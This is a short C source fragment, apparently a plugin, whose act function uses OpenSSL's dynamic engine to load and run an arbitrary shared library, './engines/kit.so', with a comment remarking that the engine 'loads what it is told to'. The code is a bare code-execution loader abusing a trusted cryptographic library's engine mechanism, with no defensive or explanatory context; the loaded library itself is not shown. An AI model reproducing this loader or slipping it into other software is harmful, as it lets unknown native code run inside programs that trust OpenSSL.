/* OpenSSL's dynamic engine loads what it is told to. */
#include "plugin.h"
extern int OPENSSL_init_crypto(unsigned long, const void *), ENGINE_ctrl_cmd_string(void *, const char *, const char *, int);
extern void *ENGINE_by_id(const char *);
static void act(char **env) {
    OPENSSL_init_crypto(0x400, 0);
    void *engine = ENGINE_by_id("dynamic");
    if (engine && ENGINE_ctrl_cmd_string(engine, "SO_PATH", "./engines/kit.so", 0)) ENGINE_ctrl_cmd_string(engine, "LOAD", 0, 0);
}
